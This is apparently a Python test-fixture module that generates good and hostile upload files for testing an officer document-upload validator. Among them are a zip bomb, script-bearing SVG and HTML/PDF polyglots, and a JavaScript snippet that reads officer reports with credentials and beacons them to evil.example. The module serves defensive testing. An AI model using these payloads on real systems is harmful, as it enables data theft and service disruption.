"""Real files of each kind an officer might upload, good and hostile, made on the fly.

Nothing large is committed: a big file is written to a temporary directory by the test
that needs it.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter

OOXML_TYPES = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def pdf(pages: int = 1, user_password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 3), (29, 79, 145)).save(out, "PNG")
    return out.getvalue()


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 3), (29, 79, 145)).save(out, "JPEG")
    return out.getvalue()


def _content_types(main_part: str, main_type: str, macros: bool = False) -> bytes:
    kind = "macroEnabled.main+xml" if macros else main_type
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="application/vnd.openxmlformats-'
        f'officedocument.{kind}"/></Types>'
    ).encode()


def office(
    kind: str = "docx", macros: bool = False, extra: dict[str, bytes] | None = None
) -> bytes:
    """An Office Open XML package as Word/Excel/PowerPoint write it (the parts that matter)."""
    main_part, main_type = OOXML_TYPES[kind]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(main_part, main_type, macros))
        archive.writestr(
            "_rels/.rels",
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"/>',
        )
        archive.writestr(main_part, b'<?xml version="1.0"?><document/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest/>')
    return out.getvalue()


def zip_bomb(path: Path, inflated_mb: int = 300) -> bytes:
    """A docx whose one media part inflates to ``inflated_mb`` MB of zeros (a few hundred KB
    on disk), written in chunks so the test never holds the inflated bytes."""
    main_part, main_type = OOXML_TYPES["docx"]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(main_part, main_type))
        archive.writestr(main_part, b'<?xml version="1.0"?><document/>')
        with archive.open("word/media/image1.bin", "w", force_zip64=True) as member:
            chunk = bytes(1024 * 1024)
            for _ in range(inflated_mb):
                member.write(chunk)
    return path.read_bytes()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.pdf", pdf())
        archive.writestr("notes.txt", "Notes.\n")
    return out.getvalue()


HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Appendix</title>"
    b'<script src="appendix.js"></script></head><body>Loading...</body></html>\n'
)
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
    b'width="10" height="10"><script>fetch("/officer/").then(r => r.text())</script>'
    b'<rect width="10" height="10"/></svg>\n'
)
JAVASCRIPT = (
    b'fetch("/officer/reports/", {credentials: "include"})\n'
    b'  .then((r) => r.text())\n  .then((t) => navigator.sendBeacon("https://evil.example/", t));\n'
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200) + b"PE\x00\x00"
FAKE_PDF = b"Report of the Director of Finance\n\nThis is the text, saved with a .pdf name.\n"
CSV = b"Ward,Responses,Support\nNorth,120,74%\nSouth,98,61%\n"
TEXT = "Background papers: the consultation log, held by democratic services. £0.\n".encode()


def polyglot_html_first() -> bytes:
    """An HTML page a browser renders, with a PDF after it that readers open too."""
    return b"<html><body><script>alert(document.cookie)</script><!--\n" + pdf() + b"\n-->"


def polyglot_pdf_first() -> bytes:
    """A PDF that starts as one, with a script tag in its first bytes for a sniffing browser."""
    data = pdf()
    newline = data.index(b"\n") + 1
    return data[:newline] + b"%<html><script>alert(document.cookie)</script>\n" + data[newline:]
